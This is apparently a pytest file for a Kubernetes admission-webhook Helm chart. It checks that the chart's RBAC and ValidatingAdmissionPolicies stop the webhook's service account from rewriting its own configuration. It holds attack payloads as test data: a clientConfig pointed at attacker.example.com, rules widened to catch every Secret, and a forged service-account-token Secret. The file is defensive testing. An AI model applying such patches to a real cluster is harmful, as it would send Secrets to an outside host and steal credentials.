"""What the webhook's service account may write: the chart's permissions and its ValidatingAdmissionPolicies.

The policies are needed because RBAC cannot restrict `patch` to a field, or `create` to a name.
"""

import copy
import subprocess
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.chart.rendering import FULLNAME, Object, one, values
from tests.controlplane import binaries
from tests.controlplane.plane import ControlPlane
from tests.e2e.api import Api, eventually
from tests.e2e.release import Release, installed, point_at, run_helm, served
from tests.mutation import plain_pod
from webhook.certificates.rotation import Pair, Policy
from webhook.certificates.rotator import CertificateRotator, Target

NAMESPACE = "certificate-policy"
SECRET = f"{FULLNAME}-certificates"
ELSEWHERE = {"url": "https://attacker.example.com/", "caBundle": "TUE9PQ=="}
STOLEN = [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["*"], "resources": ["secrets"], "scope": "*"}]
WITH_MODEL = plain_pod("s3://models/iris")
NOT_FOUND = f'service "{FULLNAME}" not found'
CHANGED: Mapping[str, Any] = {
    "name": "other.storage.kserve.io",
    "rules": STOLEN,
    "failurePolicy": {"Fail": "Ignore", "Ignore": "Fail"},
    "matchPolicy": {"Equivalent": "Exact", "Exact": "Equivalent"},
    "reinvocationPolicy": {"IfNeeded": "Never", "Never": "IfNeeded"},
    "sideEffects": {"None": "NoneOnDryRun", "NoneOnDryRun": "None"},
    "timeoutSeconds": 30,
    "admissionReviewVersions": ["v1", "v1beta1"],
    "namespaceSelector": {},
    "objectSelector": {"matchLabels": {"a": "b"}},
    "matchConditions": [],
}
"""Another value for each field of a webhook except clientConfig, or a map from the present value to another."""
METADATA: Mapping[str, Any] = {
    "labels": {"app.kubernetes.io/managed-by": "attacker"},
    "annotations": {"cert-manager.io/inject-ca-from": "a/b"},
    "finalizers": ["example.com/never"],
    "ownerReferences": [{"apiVersion": "v1", "kind": "Namespace", "name": "default", "uid": "1"}],
}


@pytest.fixture(scope="module")
def release(control_plane: ControlPlane, api: Api) -> Iterator[Release]:
    """The chart with its default certificates and all of its webhooks."""
    with installed(control_plane, NAMESPACE, *values(deployments__enabled=True)) as made:
        with _as_the_webhook(control_plane, NAMESPACE) as webhook:
            label = [{"op": "add", "path": "/metadata/labels/probe", "value": "x"}]
            eventually(lambda: _denied(_patch(api, webhook, made.configuration, label, dryRun="All")))
            secrets, other = f"/api/v1/namespaces/{NAMESPACE}/secrets", {"metadata": {"name": "other"}}
            eventually(lambda: _denied(webhook.post(secrets, json=other, params={"dryRun": "All"})))
        yield made


@pytest.fixture(scope="module")
def webhook(control_plane: ControlPlane, release: Release) -> Iterator[httpx.Client]:
    """Requests with the permissions of the webhook's pods."""
    with _as_the_webhook(control_plane, release.namespace) as http:
        yield http


def test_without_the_policies_rbac_lets_the_webhook_receive_every_secret(control_plane, api):
    """Why the policies exist. This is what remains on Kubernetes before 1.30."""
    without = values(certificates__selfManaged__admissionPolicies="never")
    with (
        installed(control_plane, "certificate-bare", *without) as bare,
        _as_the_webhook(control_plane, bare.namespace) as http,
    ):
        operations = _replaced("rules", STOLEN) + _replaced("clientConfig", ELSEWHERE) + _removed("matchConditions")
        response = _patch(api, http, bare.configuration, operations, dryRun="All").raise_for_status()
        assert response.json()["webhooks"][0]["clientConfig"]["url"] == ELSEWHERE["url"]


def test_the_webhook_can_publish_its_ca(api, release, webhook):
    for configuration in release.configurations:
        for operation in ("add", "replace", "remove"):
            value = {} if operation == "remove" else {"value": "TUE9PQ=="}
            count = len(api.get(configuration)["webhooks"])
            path = "/webhooks/{}/clientConfig/caBundle"
            operations = [{"op": operation, "path": path.format(index), **value} for index in range(count)]
            response = _patch(api, webhook, configuration, operations)
            assert response.is_success, response.text


def test_the_webhook_cannot_change_any_other_field_of_its_webhooks(api, release, webhook):
    fields = set()
    for configuration in release.configurations:
        for index, stored in enumerate(api.get(configuration)["webhooks"]):
            for field in stored.keys() - {"clientConfig"}:
                changed = _another(stored, field)
                assert _denied(_patch(api, webhook, configuration, _replaced(field, changed, index))), field
                fields.add(field)
    assert fields == CHANGED.keys(), "a field of the API has no test"


@pytest.mark.parametrize("field", ["matchConditions", "objectSelector", "namespaceSelector", "timeoutSeconds"])
def test_the_webhook_cannot_remove_a_field(api, release, webhook, field):
    assert _denied(_patch(api, webhook, release.configuration, _removed(field)))


@pytest.mark.parametrize(
    "client_config",
    [
        ELSEWHERE,
        {"service": {"name": "attacker", "namespace": NAMESPACE, "path": "/mutate-pods"}},
        {"service": {"name": FULLNAME, "namespace": "default", "path": "/mutate-pods"}},
        {"service": {"name": FULLNAME, "namespace": NAMESPACE}},
    ],
)
def test_the_webhook_cannot_send_requests_elsewhere(api, release, webhook, client_config):
    for configuration in release.configurations:
        assert _denied(_patch(api, webhook, configuration, _replaced("clientConfig", client_config)))


def test_the_webhook_cannot_add_remove_or_reorder_webhooks(api, release, webhook):
    stored = api.get(release.configuration)["webhooks"]
    assert len(stored) == 2
    added = copy.deepcopy(stored[0]) | {"name": "added.storage.kserve.io", "rules": STOLEN}
    for changed in ([*stored, added], stored[:1], stored[::-1], []):
        operations = [{"op": "replace", "path": "/webhooks", "value": changed}]
        assert _denied(_patch(api, webhook, release.configuration, operations))


def test_the_webhook_cannot_remove_metadata(api, release, webhook):
    for configuration in release.configurations:
        operations = [{"op": "remove", "path": "/metadata/labels"}]
        assert _denied(_patch(api, webhook, configuration, operations))


@pytest.mark.parametrize("field", METADATA)
def test_the_webhook_cannot_change_metadata(api, release, webhook, field):
    for configuration in release.configurations:
        operations = [{"op": "add", "path": f"/metadata/{field}", "value": METADATA[field]}]
        assert _denied(_patch(api, webhook, configuration, operations))


def test_the_webhook_creates_only_the_secret_of_its_certificates(release, webhook):
    """A Secret of another type would be a token of any service account in the namespace."""
    path = f"/api/v1/namespaces/{release.namespace}/secrets"
    account = {"kubernetes.io/service-account.name": "default"}
    token = {"metadata": {"name": SECRET, "annotations": account}, "type": "kubernetes.io/service-account-token"}
    tls = {"type": "kubernetes.io/tls", "data": {"tls.crt": "", "tls.key": ""}}
    other = {**tls, "metadata": {"name": "other"}}
    for secret in (token, other):
        assert _denied(webhook.post(path, json=secret, params={"dryRun": "All"}))
    own = {**tls, "metadata": {"name": SECRET}}
    # Allowed, but the chart's exists.
    assert webhook.post(path, json=own, params={"dryRun": "All"}).status_code == httpx.codes.CONFLICT


def test_the_webhook_creates_only_its_lease(release, webhook):
    path = f"/apis/coordination.k8s.io/v1/namespaces/{release.namespace}/leases"
    assert _denied(webhook.post(path, json={"metadata": {"name": "other"}}))
    own = {"metadata": {"name": SECRET}}
    assert webhook.post(path, json=own, params={"dryRun": "All"}).status_code == httpx.codes.CONFLICT


def test_the_command_in_the_notes_removes_what_a_deleted_namespace_leaves(control_plane, api):
    with installed(control_plane, "certificate-notes") as release:
        namespace = served(api, release)
        api.delete(one("Service", release.objects))
        eventually(lambda: _message(api.create_pod(namespace, WITH_MODEL, dryRun="All")).endswith(NOT_FOUND))
        notes = run_helm(control_plane, release.namespace, "get notes")
        (command,) = (line.split() for line in notes.splitlines() if line.strip().startswith("kubectl delete"))
        kubectl: list[str | Path] = [binaries.kubectl(), f"--kubeconfig={control_plane.kubeconfig}"]
        subprocess.run([*kubectl, *command[1:]], capture_output=True, check=True)
        eventually(lambda: api.create_pod(namespace, WITH_MODEL, dryRun="All").is_success)
        binding = one("ClusterRoleBinding", release.objects)
        assert api.http.get(api.path(binding)).status_code == httpx.codes.NOT_FOUND


def test_others_can_change_the_configurations(api, release):
    """The policies bind the webhook's service account only: Helm and administrators need to change all fields."""
    point_at(api, release, "https://127.0.0.1:1")
    operations = _replaced("timeoutSeconds", 7)
    api.patch(release.configuration, operations)
    assert api.get(release.configuration)["webhooks"][0]["timeoutSeconds"] == 7


def test_certificates_are_stored_and_published_under_the_policies(control_plane, api, release):
    """The rotator does its work with the chart's permissions and policies."""
    pairs: list[Pair] = []
    name = release.configuration["metadata"]["name"]
    kubeconfig = control_plane.service_account(release.namespace, FULLNAME)
    with control_plane.client(kubeconfig) as client:
        target = Target(release.namespace, SECRET, (name,), "pod")
        rotator = CertificateRotator(client, target, Policy((f"{FULLNAME}.svc",)), lambda pair, _: pairs.append(pair))
        rotator.start(timeout=60)
        rotator.stop()
    assert pairs
    assert all(each["clientConfig"].get("caBundle") for each in api.get(release.configuration)["webhooks"])


@pytest.fixture(scope="module")
def owned(control_plane: ControlPlane, api: Api) -> Iterator[Release]:
    """The chart, with configurations that Kubernetes removes with the namespace."""
    options = values(certificates__selfManaged__removeWithNamespace=True)
    with installed(control_plane, "certificate-owned", *options) as made:
        with _as_the_webhook(control_plane, made.namespace) as webhook:
            label = [{"op": "add", "path": "/metadata/labels/probe", "value": "x"}]
            eventually(lambda: _denied(_patch(api, webhook, made.configuration, label, dryRun="All")))
        yield made


def test_the_namespace_becomes_the_owner_under_the_policies(control_plane, api, owned):
    name = owned.configuration["metadata"]["name"]
    kubeconfig = control_plane.service_account(owned.namespace, FULLNAME)
    with control_plane.client(kubeconfig) as client:
        target = Target(owned.namespace, SECRET, (name,), "pod", removed_with_namespace=True)
        rotator = CertificateRotator(client, target, Policy((f"{FULLNAME}.svc",)), lambda pair, _: None)
        rotator.start(timeout=60)
        rotator.stop()
    uid = api.http.get(f"/api/v1/namespaces/{owned.namespace}").json()["metadata"]["uid"]
    reference = {"apiVersion": "v1", "kind": "Namespace", "name": owned.namespace, "uid": uid}
    for configuration in owned.configurations:
        assert api.get(configuration)["metadata"]["ownerReferences"] == [reference]


@pytest.mark.parametrize(
    "change",
    [
        {"kind": "ConfigMap"},
        {"name": "default"},
        {"apiVersion": "apps/v1"},
        {"blockOwnerDeletion": True},
        {"controller": True},
    ],
)
def test_the_webhook_can_name_no_other_owner(control_plane, api, owned, change):
    reference = {"apiVersion": "v1", "kind": "Namespace", "name": owned.namespace, "uid": "1"}
    with _as_the_webhook(control_plane, owned.namespace) as webhook:
        for owners in ([reference | change], [reference, reference | change]):
            operations = [{"op": "add", "path": "/metadata/ownerReferences", "value": owners}]
            assert _denied(_patch(api, webhook, owned.configuration, operations, dryRun="All"))
        for field in ("labels", "annotations", "finalizers"):
            operations = [{"op": "add", "path": f"/metadata/{field}", "value": METADATA[field]}]
            assert _denied(_patch(api, webhook, owned.configuration, operations, dryRun="All"))


@contextmanager
def _as_the_webhook(plane: ControlPlane, namespace: str) -> Iterator[httpx.Client]:
    with plane.http_as(plane.service_account(namespace, FULLNAME), "webhook") as http:
        yield http


def _patch(
    api: Api, http: httpx.Client, manifest: Object, operations: list[Object], **parameters: str
) -> httpx.Response:
    headers = {"Content-Type": "application/json-patch+json"}
    return http.request("PATCH", api.path(manifest), headers=headers, json=operations, params=parameters)


def _message(response: httpx.Response) -> str:
    """The API server's message if it rejected the request, else empty."""
    return str(response.json()["message"]) if response.is_error else ""


def _denied(response: httpx.Response) -> bool:
    """Whether a policy denied the request. Other errors do not count."""
    return response.is_error and "ValidatingAdmissionPolicy" in response.json()["message"]


def _replaced(field: str, value: Any, index: int = 0) -> list[Object]:
    return [{"op": "replace", "path": f"/webhooks/{index}/{field}", "value": value}]


def _removed(field: str) -> list[Object]:
    return [{"op": "remove", "path": f"/webhooks/0/{field}"}]


def _another(webhook: Object, field: str) -> Any:
    other = CHANGED[field]
    return other[webhook[field]] if isinstance(webhook[field], str) and isinstance(other, dict) else other
